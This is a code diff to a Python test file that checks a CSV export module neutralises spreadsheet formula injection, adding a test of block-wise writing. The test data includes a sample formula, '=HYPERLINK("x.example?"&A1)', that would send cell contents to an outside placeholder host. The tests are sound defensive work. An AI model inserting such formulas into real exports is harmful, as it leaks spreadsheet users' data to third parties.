@@ -9,7 +9,8 @@ import pandas as pd
 import pytest
 
 import newsclust as nc
-from newsclust.run.csv_cells import as_csv, as_it_was, inert
+from newsclust.run import csv_cells
+from newsclust.run.csv_cells import as_csv, as_it_was, inert, write_csv
 
 FORMULAS = [
     '=HYPERLINK("x.example?"&A1)',
@@ -39,6 +40,15 @@ def test_names_of_columns_are_no_formulas_either_and_numbers_stay_numbers():
     assert list(read) == ["'=1+1", "n", "whole"] and read["'=1+1"].tolist() == ["a", "'=b"]
     assert read["n"].tolist() == [-1.5, 2.0] and read["whole"][0] == -1
     assert as_csv(pd.DataFrame(columns=["=a"])) == "\ufeff'=a\n"
+
+
+@pytest.mark.parametrize("n", [0, 1, 2, 7])
+def test_rows_that_are_written_in_blocks_are_the_file(monkeypatch, n):
+    monkeypatch.setattr(csv_cells, "_BLOCK", 2)
+    titles = [f"=1,\n'{row}" if row % 2 else None for row in range(n)]
+    rows = pd.DataFrame({"a\nb": titles, "n": pd.array(range(n), dtype="Int64"), "x": [row / 3 for row in range(n)]})
+    write_csv(Path("rows.csv"), rows)
+    assert Path("rows.csv").read_bytes().decode() == as_csv(rows)
 
 
 def test_a_run_of_formulas_is_read_back_as_it_was_and_its_results_have_the_same_documents(toy_model):
